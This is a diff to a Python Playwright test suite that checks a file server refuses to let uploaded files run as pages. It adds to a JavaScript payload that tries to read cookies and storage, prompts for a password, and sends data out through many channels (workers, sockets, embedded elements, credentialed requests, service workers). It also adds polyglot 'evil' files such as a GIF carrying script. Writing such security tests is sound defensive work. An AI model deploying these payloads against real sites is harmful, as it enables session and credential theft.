@@ -28,12 +28,29 @@ LEAK = "/running_jobs/leak"
 ATTACK = """
 const got = {};
 const attempt = (name, act) => { try { got[name] = act(); } catch (error) { got[name] = 'refused'; } };
-const reach = (name, act) => act().then(() => { got[name] = 'reached'; }, () => { got[name] = 'refused'; });
+const reach = async (name, act) => {
+  try { await act(); got[name] = 'reached'; } catch (error) { got[name] = 'refused'; }
+};
 attempt('cookie', () => document.cookie);
 attempt('localStorage', () => localStorage.getItem('secret'));
 attempt('sessionStorage', () => sessionStorage.getItem('secret'));
 attempt('parent', () => parent === self ? 'refused' : parent.document.body.textContent);
 attempt('opener', () => window.open('LEAK/logs?window') === null ? 'refused' : 'opened');
+attempt('caches', () => { caches; return 'there'; });
+attempt('worker', () => { new Worker('LEAK/logs?worker'); return 'started'; });
+attempt('shared', () => { new SharedWorker('LEAK/logs?shared'); return 'started'; });
+attempt('socket', () => { new WebSocket('LEAK/logs?socket'); return 'sent'; });
+attempt('top', () => { if (top === self) return 'refused'; top.location = 'LEAK/logs?top'; return 'moved'; });
+attempt('dialog', () => { alert('log in again'); return prompt('your password') ?? 'refused'; });
+attempt('embedded', () => {
+  for (const kind of ['iframe', 'object', 'embed', 'link', 'video', 'script', 'base']) {
+    const part = document.createElementNS('http://www.w3.org/1999/xhtml', kind);
+    part[kind === 'object' ? 'data' : kind === 'link' || kind === 'base' ? 'href' : 'src'] = `LEAK/logs?${kind}`;
+    if (kind === 'link') part.rel = 'stylesheet';
+    document.documentElement.append(part);
+  }
+  return 'sent';
+});
 attempt('beacon', () => { navigator.sendBeacon('LEAK/logs?beacon'); return 'sent'; });
 attempt('picture', () => { new Image().src = 'LEAK/logs?picture'; return 'sent'; });
 attempt('form', () => {
@@ -42,6 +59,12 @@ attempt('form', () => {
 });
 (async () => {
   await reach('fetch', () => fetch('LEAK/logs?fetch', {credentials: 'include'}));
+  await reach('module', () => import('LEAK/logs?module'));
+  await reach('service', () => navigator.serviceWorker.register('LEAK/logs?service'));
+  await reach('request', () => new Promise((resolve, reject) => {
+    const asking = new XMLHttpRequest(); asking.open('GET', 'LEAK/logs?request'); asking.withCredentials = true;
+    asking.onload = resolve; asking.onerror = reject; asking.send();
+  }));
   await reach('change', () => fetch('LEAK', {method: 'DELETE', credentials: 'include', mode: 'no-cors'}));
   await reach('database', () => new Promise((resolve, reject) => {
     const opening = indexedDB.open('secret'); opening.onsuccess = resolve; opening.onerror = reject;
@@ -60,6 +83,13 @@ NOTHING = {
     "sessionStorage": "refused",
     "parent": "refused",
     "opener": "refused",
+    "caches": "refused",
+    "shared": "refused",
+    "top": "refused",
+    "dialog": "refused",
+    "module": "refused",
+    "service": "refused",
+    "request": "refused",
     "fetch": "refused",
     "change": "refused",
     "database": "refused",
@@ -77,6 +107,14 @@ def stack(redis_server: str, issuer: FakeIssuer, tmp_path_factory: pytest.TempPa
         script = ATTACK.replace("LEAK", LEAK)
         save(stack, "evil.html", f"<!doctype html><title>none</title><body><script>{script}</script>")
         save(stack, "evil.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{script}]]></script></svg>')
+        page = f'<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[{script}]]></script></html>'
+        for name in ("evil.xml", "evil.xhtml", "evil.xht", "evil.mht", "evil.txt", "evil"):
+            save(stack, name, page)
+        save(stack, "styled.xml", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><a/>')
+        save(stack, "evil.xsl", f'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform">{page}')
+        save(stack, "evil.gif", f"GIF89a/*{page}*/=1;{script}")
+        save(stack, "evil.js", script)
+        save(stack, "evil.css", "body { background: url(LEAK/logs?style) }".replace("LEAK", LEAK))
         save(stack, "evil.pdf", "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF")
         yield stack
 
@@ -165,3 +203,57 @@ def test_a_script_in_a_picture_does_not_run(stack: GuardedStack, page: Page, sit
         })""",
         f'<iframe src="{FILES}/evil.svg"></iframe>',
     )
+
+
+@pytest.mark.parametrize("site", ["127.0.0.1", NAME])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "evil.xml",
+        "evil.xhtml",
+        "evil.xht",
+        "evil.mht",
+        "evil.txt",
+        "evil",
+        "styled.xml",
+        "evil.xsl",
+        "evil.gif",
+        "evil.js",
+    ],
+)
+def test_what_a_file_says_it_is_makes_it_no_page(stack: GuardedStack, page: Page, site: str, name: str) -> None:
+    answer = page.goto(f"{stack.url.replace('127.0.0.1', site)}{FILES}/{name}")
+    assert answer is not None
+    assert answer.headers["content-type"].split(";")[0] in {"text/plain", "image/gif"}
+    assert answer.headers["x-content-type-options"] == "nosniff"
+    assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
+    assert page.evaluate("origin") == "null"
+    assert '"cookie"' not in page.title()
+
+
+def test_a_file_becomes_no_part_of_a_page_of_the_server(stack: GuardedStack, page: Page) -> None:
+    page.goto(f"{stack.url}/healthz")
+    found = page.evaluate(
+        """async files => {
+            const load = (kind, facts) => new Promise(resolve => {
+                const part = Object.assign(document.createElement(kind), facts);
+                part.onload = () => resolve('loaded'); part.onerror = () => resolve('refused');
+                document.head.append(part);
+            });
+            const worker = new Promise(resolve => {
+                new Worker(`${files}/evil.js`).onerror = () => resolve('refused');
+            });
+            const service = await navigator.serviceWorker.register(`${files}/evil.js`).then(
+                () => 'registered', () => 'refused');
+            return {
+                script: await load('script', {src: `${files}/evil.js`}),
+                module: await load('script', {src: `${files}/evil.js`, type: 'module'}),
+                picture: await load('script', {src: `${files}/evil.gif`}),
+                style: await load('link', {href: `${files}/evil.css`, rel: 'stylesheet'}),
+                service,
+                worker: await worker,
+            };
+        }""",
+        FILES,
+    )
+    assert found == dict.fromkeys(("script", "module", "picture", "style", "service", "worker"), "refused")
